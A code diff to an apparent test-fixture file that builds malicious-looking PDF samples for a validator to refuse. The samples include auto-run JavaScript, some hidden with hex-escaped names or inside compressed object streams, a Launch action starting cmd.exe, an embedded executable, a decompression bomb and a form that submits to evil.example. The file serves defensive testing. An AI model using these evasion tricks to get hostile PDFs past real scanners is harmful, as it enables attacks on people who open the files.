@@ -1,3 +1,4 @@
+import { zlibSync } from 'fflate'
 import { type Bytes, drawAs, drawPng } from './files.ts'
 import { addToJpg, addToPng, big, EXIF_HEAD, join, pngChunk, toBytes } from './picture-bytes.ts'
 
@@ -99,11 +100,37 @@ export async function listRedrawn(): Promise<[name: string, bytes: Bytes][]> {
   ]
 }
 
-/** What a reader of PDFs might do something with: kept as it is, and never shown by this site. */
-export const ACTIVE_PDFS: readonly [name: string, bytes: Bytes][] = [
+type Pack = { filter?: string; packed?: Uint8Array }
+
+/** A PDF with objects in a pack, as programs write them since 2003. */
+export function createPackedPdf(
+  objects: string,
+  { filter = '/FlateDecode', packed = zlibSync(toBytes(objects)) }: Pack = {},
+) {
+  const head = `%PDF-1.7\n1 0 obj<</Type/ObjStm/N 1/First 4/Filter${filter}/Length ${packed.length}>>stream\r\n`
+  return join(toBytes(head), packed, toBytes('\nendstream endobj\nstartxref\n9\n%%EOF\n'))
+}
+
+const SCRIPT = '3 0 <</S/JavaScript/JS(app.alert(1))>>'
+
+/** What acts when it is opened, carries another file, or hides what it has: refused. */
+export const FORBIDDEN_PDFS: readonly [name: string, bytes: Bytes][] = [
   ['a script', createPdf({ inside: '/OpenAction<</S/JavaScript/JS(app.alert(1))>>' })],
+  ['a script under a name in numbers', createPdf({ inside: '/OpenAction<</S/J#61vaScript/JS(app.alert(1))>>' })],
   ['a program to start', createPdf({ inside: '/OpenAction<</S/Launch/F(cmd.exe)>>' })],
   ['a file in it', createPdf({ inside: '/Names<</EmbeddedFiles<</Names[(a.exe)3 0 R]>>>>' })],
+  ['a lock', createPdf({ inside: '/Encrypt 5 0 R' })],
+  ['a script in a pack', createPackedPdf(SCRIPT)],
+  ['a script under a name in numbers in a pack', createPackedPdf(SCRIPT.replace('/Java', '/J#61va'))],
+  ['a pack under a name in numbers', createPdf({ inside: '/Extra<</Type/Obj#53tm>>' })],
+  ['a pack in two wrappings', createPackedPdf(SCRIPT, { filter: '[/ASCIIHexDecode/FlateDecode]' })],
+  ['a pack that is cut off', createPackedPdf(SCRIPT, { packed: zlibSync(toBytes(SCRIPT)).subarray(0, 20) })],
+  ['a pack without an end', createPackedPdf('', { packed: zlibSync(new Uint8Array(40_000_000)) })],
+]
+
+/** What a reader of PDFs might do something with: kept as it is, and never shown by this site. */
+export const ACTIVE_PDFS: readonly [name: string, bytes: Bytes][] = [
+  ['objects in a pack', createPackedPdf('3 0 <</Type/Page>>')],
   ['a form that is sent', createPdf({ inside: '/AA<</O<</S/SubmitForm/F(https://evil.example)>>>>' })],
   ['an address that it opens', createPdf({ inside: '/OpenAction<</S/URI/URI(javascript:alert(1))>>' })],
   ['a page behind it', createPdf({ behind: PAGE })],
